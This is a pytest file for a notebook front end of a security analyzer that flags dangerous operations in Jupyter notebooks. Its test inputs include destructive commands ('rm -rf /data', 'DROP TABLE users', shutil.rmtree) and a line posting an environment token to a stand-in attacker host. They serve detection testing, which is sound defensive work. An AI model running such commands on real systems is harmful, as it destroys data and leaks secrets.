@@ -1,0 +1,431 @@
+"""The notebook front end on real notebooks written by nbformat.
+
+Annotated fixtures (tests/fixtures/notebooks/*.ipynb, written by generate.py in
+that folder) carry ``# ruleid:`` / ``# ok:`` comments inside their cells; the
+other tests write notebooks with nbformat into a temporary folder and read
+them back through the real front end, the engine and the command line.
+"""
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from dataclasses import replace
+from pathlib import Path
+
+import nbformat
+import pytest
+from nbformat import v3
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
+
+from analyzer.frontends import analyze, notebook
+from analyzer.frontends.notebook_read import parse
+from analyzer.model import Analysis, Location
+from annotations import check, expectations
+
+FIXTURES = Path(__file__).parent / "fixtures" / "notebooks"
+NOTEBOOKS = sorted(FIXTURES.glob("*.ipynb"))
+PYTHON = {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}
+EXECGATE = Path(sys.executable).parent / "execgate"
+
+
+def run(text: str, path: str = "nb.ipynb") -> Analysis:
+    return analyze("notebook", text, Location(path))
+
+
+def write(nb: nbformat.NotebookNode) -> str:
+    return nbformat.writes(nb)
+
+
+def code_notebook(*sources: str, metadata: dict | None = None) -> str:
+    return write(new_notebook(cells=[new_code_cell(s) for s in sources], metadata=metadata or PYTHON))
+
+
+def found(analysis: Analysis) -> set[tuple[str, int | None, int]]:
+    return {(op.rule, op.location.cell, op.location.line) for op in analysis.operations}
+
+
+# -- annotated fixtures ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda p: p.name)
+def test_fixture_annotations(path: Path) -> None:
+    text = path.read_text(encoding="utf-8")
+    nb = nbformat.reads(text, as_version=4)
+    expected = [e for index, cell in enumerate(nb.cells) if cell.cell_type == "code"
+                for e in expectations(cell.source, index)]
+    assert any(e.kind == "ruleid" for e in expected) and any(e.kind == "ok" for e in expected)
+    analysis = run(text, str(path))
+    actual = {(op.rule, op.location.line, op.location.cell) for op in analysis.operations}
+    assert check(expected, actual) == []
+    assert analysis.errors == []
+
+
+def test_fixtures_match_their_generator(tmp_path: Path) -> None:
+    sys.path.insert(0, str(FIXTURES))
+    try:
+        import generate
+    finally:
+        sys.path.remove(str(FIXTURES))
+    assert generate.main([str(tmp_path)]) == 0
+    for path in NOTEBOOKS:
+        assert (tmp_path / path.name).read_text(encoding="utf-8") == path.read_text(encoding="utf-8"), path.name
+    assert sorted(p.name for p in tmp_path.glob("*.ipynb")) == [p.name for p in NOTEBOOKS]
+
+
+@pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda p: p.name)
+def test_file_line_is_the_ipynb_line_of_the_cell_line(path: Path) -> None:
+    text = path.read_text(encoding="utf-8")
+    file_lines = text.splitlines()
+    cells = nbformat.reads(text, as_version=4).cells
+    analysis = run(text, str(path))
+    assert analysis.operations
+    for op in analysis.operations:
+        loc = op.location
+        cell_line = cells[loc.cell].source.split("\n")[loc.line - 1]
+        assert loc.file_line is not None
+        assert json.dumps(cell_line)[1:-1] in file_lines[loc.file_line - 1], (loc, cell_line)
+        assert loc.cell_id == cells[loc.cell].id
+
+
+def test_scanner_reads_the_same_json_as_json_loads() -> None:
+    for path in NOTEBOOKS:
+        text = path.read_text(encoding="utf-8")
+        assert parse(text)[0] == json.loads(text)
+
+
+# -- magics and lines ----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("source, rule, line", [
+    ("x = 1\ny = 2\n!rm -rf /data", "shell.rm-recursive", 3),
+    ("\n\n\nimport os\n!rm -rf /data", "shell.rm-recursive", 5),
+    ("!rm -rf \\\n   /a\n!ls\n!rm -rf /b", "shell.rm-recursive", 4),
+    ("if True:\n    out = !rm -rf /data\n", "shell.rm-recursive", 2),
+    ("import os\nos.path?\n!rm -rf /data", "shell.rm-recursive", 3),
+    ("x = %system ls\n%system rm -rf /data", "shell.rm-recursive", 2),
+    ("%%bash\necho start\n\nrm -rf /data", "shell.rm-recursive", 4),
+    ("\n%%sh\nrm -rf /data", "shell.rm-recursive", 3),
+    ("%%script bash\nset -e\nrm -rf /data", "shell.rm-recursive", 3),
+    ("%%sql sqlite://\nSELECT 1;\nDROP TABLE users;", "sql.drop-table", 3),
+    ("x = 1\n%sql DROP TABLE users", "sql.drop-table", 2),
+    ("%%writefile job.sh\necho hi\nrm -rf /data", "shell.rm-recursive", 3),
+    ("%%writefile job.py\nimport shutil\nshutil.rmtree('/data')", "py.fs-delete-tree", 3),
+])
+def test_magic_reported_at_its_line_in_the_cell(source: str, rule: str, line: int) -> None:
+    text = code_notebook("print('first cell')", source)
+    assert (rule, 1, line) in found(run(text))
+
+
+@pytest.mark.parametrize("source", [
+    "!ls -la",
+    "files = !ls /data",
+    "%%bash\necho \"rm -rf /\"",
+    "%sql SELECT * FROM t",
+    "%%sql\nSELECT count(*) FROM orders WHERE day = '2024-01-01'",
+    "%%writefile notes.txt\nrm -rf / and DROP TABLE users are what we never do",
+    "%%html\n<p>rm -rf /</p>",
+    "print('!rm -rf /')",
+    "# !rm -rf /data",
+])
+def test_near_misses_stay_quiet(source: str) -> None:
+    analysis = run(code_notebook(source))
+    assert analysis.operations == [] and analysis.errors == []
+
+
+def test_markdown_and_raw_cells_are_ignored() -> None:
+    nb = new_notebook(cells=[new_markdown_cell("!rm -rf /data\n\n%%bash\nrm -rf /"), new_raw_cell("rm -rf /"),
+                             new_markdown_cell("```python\nshutil.rmtree('/')\n```")], metadata=PYTHON)
+    analysis = run(write(nb))
+    assert analysis.operations == [] and analysis.errors == []
+
+
+def test_cell_index_counts_every_cell() -> None:
+    nb = new_notebook(cells=[new_markdown_cell("intro"), new_code_cell("x = 1"), new_raw_cell("raw"),
+                             new_code_cell("y = 2\n!rm -rf /data")], metadata=PYTHON)
+    (op,) = run(write(nb)).operations
+    assert (op.location.cell, op.location.line, op.location.cell_id) == (3, 2, nb.cells[3].id)
+
+
+def test_notebook_without_ids_reports_no_cell_id_and_is_stable() -> None:
+    nb = new_notebook(cells=[new_code_cell("!rm -rf /data")], metadata=PYTHON)
+    nb.nbformat_minor = 4
+    del nb.cells[0]["id"]
+    text = write(nb)
+    assert '"id"' not in text
+    first, second = run(text), run(text)
+    assert [op.location for op in first.operations] == [op.location for op in second.operations]
+    assert first.operations[0].location.cell_id is None and first.errors == []
+
+
+def test_minified_notebook_has_cell_lines_but_no_file_lines() -> None:
+    nb = new_notebook(cells=[new_code_cell("x = 1\n!rm -rf /data")], metadata=PYTHON)
+    text = json.dumps(nb, separators=(",", ":"))
+    (op,) = run(text).operations
+    assert (op.location.cell, op.location.line, op.location.file_line) == (0, 2, None)
+
+
+def test_source_as_one_string() -> None:
+    one_line = {"cells": [{"cell_type": "code", "execution_count": None, "id": "a", "metadata": {}, "outputs": [],
+                           "source": "!rm -rf /data"}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+    text = json.dumps(one_line, indent=1)
+    (op,) = run(text).operations
+    assert op.location.file_line == next(i for i, l in enumerate(text.splitlines(), 1) if "rm -rf" in l)
+    one_line["cells"][0]["source"] = "x = 1\n!rm -rf /data"
+    (op,) = run(json.dumps(one_line, indent=1)).operations
+    assert (op.location.line, op.location.file_line) == (2, None)
+
+
+def test_continuation_lines_keep_later_lines_in_place() -> None:
+    assert notebook.to_python("!rm -rf \\\n  /a \\\n  /b\nx = 1\n", 20000).split("\n")[3] == "x = 1"
+
+
+def test_cell_with_many_escaped_lines_is_transformed_in_bounded_chunks() -> None:
+    source = "\n".join(["!ls"] * 600 + ["x = 1"] * 50 + ["!rm -rf /data"])
+    analysis = run(code_notebook(source))
+    assert ("shell.rm-recursive", 0, 651) in found(analysis)
+    assert analysis.errors == []
+
+
+def test_transformation_failure_fails_that_cell_closed_and_goes_on() -> None:
+    # IPython itself raises IndentationError on this cell; the kernel would not run it either.
+    analysis = run(code_notebook("if x:\n    a = 1\n  b = 2\n!ls", "!rm -rf /data"))
+    assert any(e.cell == 0 and e.message.startswith("cannot transform IPython syntax: IndentationError")
+               for e in analysis.errors)
+    assert ("shell.rm-recursive", 1, 1) in found(analysis)
+
+
+def test_indented_block_with_too_much_ipython_syntax_fails_closed() -> None:
+    source = "def f():\n" + "\n".join(["    !ls"] * 300)
+    analysis = run(code_notebook(source, "!rm -rf /data"))
+    assert [e.message for e in analysis.errors if e.cell == 0][0].startswith(
+        "cannot transform IPython syntax: TransformBudgetError: too much IPython syntax")
+    assert ("shell.rm-recursive", 1, 1) in found(analysis)
+
+
+# -- bad input -----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text, message", [
+    ("", "not a notebook: the file is empty"),
+    ("{\"cells\": [", "not a notebook: not JSON (Expecting value at line 1 column 12)"),
+    ("import os\nos.system('rm -rf /')\n", "not a notebook: not JSON (Expecting value at line 1 column 1)"),
+    ("[1, 2]", "not a notebook: the JSON is an array, not an object"),
+    ("{\"nbformat\": 9, \"metadata\": {}}", "not a notebook: unsupported nbformat version 9"),
+    ("{\"metadata\": {}}", "not a notebook: no nbformat version and no cells"),
+    ("{\"nbformat\": 4, \"nbformat_minor\": 5, \"metadata\": {}, \"cells\": {}}", "not a notebook: no list of cells"),
+])
+def test_not_a_notebook_is_one_line(text: str, message: str) -> None:
+    analysis = run(text)
+    assert [e.display() for e in analysis.errors] == [f"nb.ipynb: {message}"]
+    assert analysis.operations == []
+
+
+def _raw_notebook(*cells: dict) -> dict:
+    return {"cells": list(cells), "metadata": PYTHON, "nbformat": 4, "nbformat_minor": 5}
+
+
+def _code(source: object, index: int) -> dict:
+    return {"cell_type": "code", "execution_count": None, "id": f"c{index}", "metadata": {}, "outputs": [],
+            "source": source}
+
+
+def test_missing_source_is_named_and_other_cells_are_analysed() -> None:
+    cells = [_code("x = 1", 0), _code("y = 2", 1), _code("z = 3", 2), _code("", 3), _code("!rm -rf /data", 4)]
+    del cells[3]["source"]
+    analysis = run(json.dumps(_raw_notebook(*cells), indent=1))
+    assert [e.display() for e in analysis.errors] == ["nb.ipynb:cell 3: missing source in cell 3"]
+    assert found(analysis) == {("shell.rm-recursive", 4, 1)}
+
+
+def test_schema_invalid_notebook_is_reported_and_still_analysed() -> None:
+    bad = _code("x = 1", 0)
+    bad["execution_count"] = "seven"
+    analysis = run(json.dumps(_raw_notebook(bad, _code("!rm -rf /data", 1)), indent=1))
+    (error,) = analysis.errors
+    assert error.cell == 0 and error.message.startswith("not a valid nbformat 4 notebook at cells[0]")
+    assert "\n" not in error.message
+    assert found(analysis) == {("shell.rm-recursive", 1, 1)}
+
+
+@pytest.mark.parametrize("cell, message", [
+    ({"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "id": "a", "source": 5},
+     "the source of cell 0 is not text"),
+    ({"cell_type": "program", "metadata": {}, "id": "a", "source": "!rm -rf /data"},
+     "cell 0 has an unknown cell_type 'program'"),
+    ("!rm -rf /data", "cell 0 is not an object"),
+])
+def test_unreadable_cells_are_named(cell: object, message: str) -> None:
+    analysis = run(json.dumps(_raw_notebook(cell, _code("!rm -rf /other", 1)), indent=1))
+    assert message in [e.message for e in analysis.errors]
+    assert ("shell.rm-recursive", 1, 1) in found(analysis)
+
+
+def test_unknown_cell_type_with_source_is_analysed_as_code() -> None:
+    cell = {"cell_type": "program", "metadata": {}, "id": "a", "source": "!rm -rf /data"}
+    assert ("shell.rm-recursive", 0, 1) in found(run(json.dumps(_raw_notebook(cell), indent=1)))
+
+
+def test_v3_notebook_is_upgraded() -> None:
+    old = v3.new_notebook(worksheets=[v3.new_worksheet(cells=[
+        v3.new_text_cell("markdown", source="rm -rf / is bad"),
+        v3.new_code_cell(input="import os\n!rm -rf /data"),
+    ])], metadata={"name": "old"})
+    text = nbformat.writes(old, version=3)
+    assert json.loads(text)["nbformat"] == 3
+    analysis = run(text)
+    (op,) = analysis.operations
+    assert (op.rule, op.location.cell, op.location.line, op.location.cell_id, op.location.file_line) == \
+        ("shell.rm-recursive", 1, 2, None, None)
+    assert analysis.errors == []
+
+
+def test_broken_v3_notebook_is_one_line() -> None:
+    (error,) = run(json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": [7]}]})).errors
+    assert error.message.startswith("not a notebook: cannot upgrade nbformat 3 (")
+
+
+def test_outputs_are_not_analysed_even_when_huge() -> None:
+    cells = []
+    for index in range(50):
+        cell = new_code_cell(f"x{index} = {index}")
+        cell.outputs = [new_output("stream", name="stdout", text="!rm -rf /data; " * 70_000),
+                        new_output("display_data", data={"text/plain": "x = !rm -rf /" * 1000})]
+        cells.append(cell)
+    cells.append(new_code_cell("!rm -rf /data"))
+    text = write(new_notebook(cells=cells, metadata=PYTHON))
+    assert len(text) > 50_000_000
+    analysis = run(text)
+    assert found(analysis) == {("shell.rm-recursive", 50, 1)}
+    assert analysis.errors == []
+
+
+def test_many_empty_cells_complete() -> None:
+    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": []}
+    text = json.dumps({"cells": [cell] * 5000 + [dict(cell, source=["!rm -rf /data"])], "metadata": {},
+                       "nbformat": 4, "nbformat_minor": 4})
+    analysis = run(text)
+    assert found(analysis) == {("shell.rm-recursive", 5000, 1)} and analysis.errors == []
+
+
+def test_too_many_cells_fail_closed_after_the_first_ones(monkeypatch: pytest.MonkeyPatch) -> None:
+    lowered = replace(notebook.knowledge(), max_cells=50)
+    monkeypatch.setattr(notebook, "knowledge", lambda: lowered)
+    text = code_notebook(*[f"!rm -rf /data/{i}" for i in range(200)])
+    analysis = run(text)
+    assert [e.message for e in analysis.errors] == [
+        "too many cells (200; the limit is 50): only the first 50 analysed"]
+    assert {cell for _, cell, _ in found(analysis)} == set(range(50))
+
+
+# -- kernels -------------------------------------------------------------------------------------------
+
+
+def _kernel(language: str, name: str | None = None) -> dict:
+    return {"kernelspec": {"display_name": language, "language": language, "name": name or language}}
+
+
+@pytest.mark.parametrize("metadata, source, rule", [
+    (_kernel("sql", "xsql"), "SELECT 1;\nDROP TABLE users;", "sql.drop-table"),
+    ({"language_info": {"name": "PostgreSQL"}}, "TRUNCATE TABLE audit_log;", "sql.truncate"),
+    (_kernel("snowflake"), "DROP SCHEMA analytics;", "sql.drop-schema"),
+    (_kernel("bash"), "cd /srv\nrm -rf /data", "shell.rm-recursive"),
+    (_kernel("python", "conda-env-ml-py"), "import shutil\nshutil.rmtree('/data')", "py.fs-delete-tree"),
+    ({}, "!rm -rf /data", "shell.rm-recursive"),
+])
+def test_kernel_language_picks_the_front_end(metadata: dict, source: str, rule: str) -> None:
+    analysis = run(code_notebook("", source, metadata=metadata))
+    assert rule in {op.rule for op in analysis.operations}
+    assert all(op.location.cell == 1 for op in analysis.operations)
+    assert analysis.errors == []
+
+
+@pytest.mark.parametrize("metadata, source", [
+    (_kernel("sql", "xsql"), "SELECT * FROM users WHERE id = 3;"),
+    (_kernel("bash"), "ls -la /data\necho 'rm -rf /'"),
+])
+def test_kernel_near_misses(metadata: dict, source: str) -> None:
+    analysis = run(code_notebook(source, metadata=metadata))
+    assert analysis.operations == [] and analysis.errors == []
+
+
+def test_sql_kernel_dialect_comes_from_the_catalogue() -> None:
+    k = notebook.knowledge()
+    assert notebook.kernel_language(_kernel("sql", "snowflake"), k) == ("sql", "sql", "snowflake")
+    assert notebook.kernel_language({"kernelspec": {"name": "xsql"}}, k) == ("sql", "xsql", None)
+    assert notebook.kernel_language({"kernelspec": "python3"}, k) == ("python", "", None)
+
+
+@pytest.mark.parametrize("language", ["R", "julia", "scala"])
+def test_other_kernels_are_not_analysed(language: str) -> None:
+    nb = new_notebook(cells=[new_markdown_cell("rm -rf"), new_code_cell("unlink('/data', recursive = TRUE)"),
+                             new_code_cell("x <- 1")], metadata=_kernel(language))
+    analysis = run(write(nb))
+    assert [e.display() for e in analysis.errors] == [f"nb.ipynb: kernel {language.lower()} not analysed"]
+    assert analysis.operations == []
+
+
+def test_other_kernel_without_code_is_quiet() -> None:
+    nb = new_notebook(cells=[new_markdown_cell("notes"), new_code_cell("")], metadata=_kernel("R"))
+    assert run(write(nb)).errors == []
+
+
+# -- order of the cells --------------------------------------------------------------------------------
+
+
+def _counted(source: str, count: int | None):
+    cell = new_code_cell(source)
+    cell.execution_count = count
+    return cell
+
+
+def test_recorded_execution_order_adds_what_only_it_shows() -> None:
+    cells = [_counted("import os, requests", 1),
+             _counted("requests.post('https://hooks.evil.example/x', data=secret)", 3),
+             _counted("secret = os.environ['TOKEN']", 2)]
+    (op,) = run(write(new_notebook(cells=cells, metadata=PYTHON))).operations
+    assert (op.rule, op.location.cell) == ("py.exfil-request", 1)
+    assert "TOKEN" in (op.detail("source") or "")
+
+
+def test_file_order_when_counts_are_missing_or_repeated() -> None:
+    for counts in ((1, None, 2), (1, 2, 2)):
+        cells = [_counted("import os, requests", counts[0]),
+                 _counted("requests.post('https://hooks.evil.example/x', data=secret)", counts[1]),
+                 _counted("secret = os.environ['TOKEN']", counts[2])]
+        (op,) = run(write(new_notebook(cells=cells, metadata=PYTHON))).operations
+        assert op.rule == "py.exfil-request" and op.detail("source") is None
+
+
+# -- end to end through the command line ---------------------------------------------------------------
+
+
+def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
+    env = dict(os.environ, EXECGATE_ENV="dev", NO_COLOR="1")
+    return subprocess.run([str(EXECGATE), *args], cwd=cwd, capture_output=True, text=True, env=env, timeout=120)
+
+
+def test_cli_json_and_text_report_the_cell(tmp_path: Path) -> None:
+    nb = new_notebook(cells=[new_markdown_cell("# Title"), new_code_cell("import os"), new_code_cell("x = 1"),
+                             new_markdown_cell("cleanup:"), new_code_cell("print('cleanup')\n!rm -rf /data")],
+                      metadata=PYTHON)
+    nbformat.write(nb, str(tmp_path / "nb.ipynb"))
+    done = _cli("check", "nb.ipynb", "--format", "json", cwd=tmp_path)
+    report = json.loads(done.stdout)
+    (finding,) = [f for f in report["findings"] if f["rule"] == "shell.rm-recursive"]
+    assert (finding["cell"], finding["line"], finding["cell_id"]) == (4, 2, nb.cells[4].id)
+    assert report["errors"] == []
+    assert done.returncode == (1 if finding["decision"] == "block" else 0)
+    text = _cli("check", "nb.ipynb", cwd=tmp_path)
+    assert "nb.ipynb:cell 4:2:" in text.stdout
+
+
+def test_cli_not_a_notebook_fails_closed_in_one_line(tmp_path: Path) -> None:
+    (tmp_path / "broken.ipynb").write_text("{\"cells\": [", encoding="utf-8")
+    done = _cli("check", "broken.ipynb", "--format", "json", cwd=tmp_path)
+    assert done.returncode == 2
+    assert json.loads(done.stdout)["errors"] == [
+        {"path": "broken.ipynb", "message": "not a notebook: not JSON (Expecting value at line 1 column 12)",
+         "line": None, "cell": None}]
+    assert "Traceback" not in done.stderr + done.stdout
